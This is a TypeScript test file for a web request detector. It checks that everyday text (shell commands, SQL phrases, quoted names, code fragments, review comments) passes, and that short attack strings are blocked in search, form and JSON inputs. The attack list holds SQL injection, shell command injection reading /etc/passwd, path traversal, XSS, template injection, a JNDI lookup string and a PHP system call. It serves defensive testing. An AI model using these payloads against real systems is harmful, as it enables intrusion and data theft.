// SPDX-License-Identifier: Apache-2.0
// What people type into one line, and what they write in tickets and reviews, with a little of a shell, a query or a path in it; and the
// shortest things that attackers write.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type OpenedJudge, openJudge } from './open-judge.ts'
import { contextOfJson } from './wire/json-context.ts'

const { judge }: OpenedJudge = openJudge({})
const browser: readonly (readonly [string, string])[] = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
]
const posted = (type: string, body: string) =>
  contextOfJson({
    method: 'POST',
    url: '/items',
    address: '192.0.2.1',
    headers: [...browser, ['Content-Type', type]],
    body_base64: Buffer.from(body).toString('base64'),
  })
/** The places where one and the same text may come. */
const placesOf = (text: string) => ({
  search: contextOfJson({
    method: 'GET',
    url: `/search?q=${encodeURIComponent(text)}`,
    address: '192.0.2.1',
    headers: browser,
  }),
  form: posted('application/x-www-form-urlencoded', `${new URLSearchParams({ title: text, page: '2' })}`),
  json: posted('application/json', JSON.stringify({ title: text, tags: ['a'] })),
})
/** Of the places, those where it is blocked, and for what. */
const blockedIn = (text: string): readonly string[] =>
  Object.entries(placesOf(text)).flatMap(([place, context]) => {
    const { recommended_action, score, reasons } = judge(context, 0n)
    const why = reasons.map(({ detector, id = '', weight }) => `${detector} ${id} ${weight}`)
    return recommended_action === 'block' ? [`${JSON.stringify(text)} in ${place}: ${score}, ${why.join(', ')}`] : []
  })

const honest: Readonly<Record<string, readonly string[]>> = {
  'names of commands and their options':
    `rm -rf|ls -la|cat notes.txt|chmod 755|sudo apt update|git push --force|npm install|docker run -it
grep -r todo|tar -xzf a.tar.gz|ping example.org|echo $PATH|kill -9|cd ..|ssh ann@shop.example|ps aux grep node
find . -name|sed -i|python -m venv|curl -I https://shop.example|rm -rf node_modules|--help|-v|whoami|sleep 8 hours`.split(
      /[|\n]/,
    ),
  'names of folders and files':
    `/usr/bin|/usr/local/lib|/usr/bin/env node|/var/www|/tmp|/home/ann|/opt/shop/bin|~/.bashrc|./run.sh|../img/a.png
C:\\Users\\Ann|C:\\Program Files|\\\\server\\share|src/app.ts|/dev/null|*.txt|/var/mail|/usr/share/doc`.split(/[|\n]/),
  comparisons:
    `x=1 and y=2|2 and 3|1 or 2|a = b or c|x > 3 and x < 9|a && b|1=1|2*3|5+3=8|between 2 and 3|a<b|1/2|and/or|24/7
10 and 20 or 30|2 or 3 people|a == b|x != y|size=10 or size=12`.split(/[|\n]/),
  'words of SQL':
    `select *|select * from|order by name|order by name desc|group by city|where id = 5|left join|drop table|count(*)
union all|insert into|name like 'A%'|union select|limit 10|delete from cart|select name from users`.split(/[|\n]/),
  'names with marks':
    `O'Brien|it's|rock 'n' roll|R&D|AT&T|5'10"|100%|50% off; today|d'Artagnan|(a or b)|"blue shoes"|size 10'
'90s music|yes; no|it's 5 o'clock|Q&A: what's new?|"a" or "b"|cats & dogs|-- Ann`.split(/[|\n]/),
  'pieces of code':
    `<b>|<div>|</p>|a -> b|{{ name }}|\${HOME}|#include <stdio.h>|print("hi")|console.log(1)|if (a == b)|x += 1;|%s: %d|\\n
=SUM(A1:A9)|or:|e.g.|#12|@ann|foo(); bar()|let a = 1;|<br/>|f(x)`.split(/[|\n]/),
  'reviews and tickets': [
    'Please run `rm -rf node_modules` and then `npm ci`.',
    'The query `select * from orders where id = 5` is slow; can we add an index?',
    'nit: use `where state = 1 and kind = 2` here, not two queries',
    'After `sudo systemctl restart nginx` it works, see /var/log/nginx.',
    'We had "SELECT name FROM users" in a loop; now it is one query.',
    'ls -la /usr/bin shows that the link is gone; is that right?',
    'The where clause has 1 = 1 in it, which nobody needs.',
    "Don't build it by hand: 'WHERE name = ' + name. Use parameters.",
  ],
}

for (const [kind, texts] of Object.entries(honest))
  test(`DET-1 nobody is blocked for a line of ${kind}`, () => {
    assert.deepEqual(texts.flatMap(blockedIn), [])
  })

const attacks = [
  "' or 1=1--",
  "' or '1'='1",
  "admin'--",
  '1 union select 1,2',
  "1' order by 5--",
  '1;drop table users',
  '1 and sleep(5)',
  ';cat /etc/passwd',
  ';id',
  '$(whoami)',
  '`id`',
  '&& ls /',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  `\${jndi:ldap://a.example/x}`,
  "<?php system('id');",
]

for (const text of attacks)
  test(`DET-1 ${text} is blocked wherever it comes`, () => {
    assert.equal(blockedIn(text).length, 3)
  })
